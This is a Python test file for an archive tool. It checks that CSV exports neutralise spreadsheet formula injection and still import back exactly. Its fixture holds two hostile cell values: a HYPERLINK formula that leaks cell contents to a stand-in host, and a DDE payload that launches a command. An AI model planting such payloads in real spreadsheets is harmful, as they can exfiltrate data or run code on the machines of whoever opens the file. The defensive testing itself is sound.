"""CSV exports are safe to open in a spreadsheet and still import back exactly."""

from __future__ import annotations

import csv
from pathlib import Path

from archive_browser.core.archive import Archive
from archive_browser.core.export import export_releases
from archive_browser.core.jobs import run
from archive_browser.core.model import ReleaseDraft
from archive_browser.core.spreadsheet import spreadsheet_restore, spreadsheet_safe

HOSTILE = ReleaseDraft(
    title='=HYPERLINK("http://example.invalid/?leak="&A1,"Click for details")',
    body="-2 points on the index; +3 on the other.\n\n=1+1 is not a formula here.",
    summary="+7 495 123 45 67",
    source="@ministry",
    url="=cmd|' /C calc'!A0",
    place="'=already quoted once",
    notes="''-two quotes before a dash",
    date="2024-07-25",
)
PLAIN = ReleaseDraft(title="Plain title", body="A plain body.", source="CSTO")


def test_cells_are_neutralised_and_import_back_exactly(archive: Archive, tmp_path: Path) -> None:
    ids, _ = archive.add_releases([HOSTILE, PLAIN])
    assert len(ids) == 2
    out = tmp_path / "out.csv"
    run(export_releases(archive, ids, out))
    with out.open(encoding="utf-8", newline="") as f:
        rows = list(csv.DictReader(f))
    hostile, plain = rows
    for name in ("title", "body", "summary", "source", "url", "place", "notes"):
        assert hostile[name][0] == "'", name
        assert hostile[name][1:] == getattr(HOSTILE, name), name
    assert [cell for cell in plain.values() if cell and cell[0] in "=+-@'"] == []
    assert plain["title"] == "Plain title"

    with Archive.open(tmp_path / "again") as again:
        report = run(again.import_paths([out]))
        assert report is not None and len(report.imported_ids) == 2
        back = {r.title: r for r in again.get_many(report.imported_ids)}
    got = back[HOSTILE.title]
    for name in ("title", "body", "summary", "source", "url", "place", "notes", "date"):
        assert getattr(got, name) == getattr(HOSTILE, name), name
    assert back["Plain title"].source == "CSTO"


def test_a_csv_not_written_by_the_archive_keeps_its_quotes(
    archive: Archive, tmp_path: Path
) -> None:
    other = tmp_path / "other.csv"
    other.write_text("title,body\n'=quoted,'-dash body\n", encoding="utf-8")
    report = run(archive.import_paths([other]))
    assert report is not None
    (release,) = archive.get_many(report.imported_ids)
    assert (release.title, release.body) == ("'=quoted", "'-dash body")


def test_safe_and_restore_are_inverse() -> None:
    for cell in ["", "plain", "=1", "+", "-x", "@a", "\tx", "\rx", "'=", "''-", "'plain", "'"]:
        assert spreadsheet_restore(spreadsheet_safe(cell)) == cell
    assert spreadsheet_safe("=1") == "'=1" and spreadsheet_safe("'=1") == "''=1"
    assert spreadsheet_safe("'plain") == "'plain"
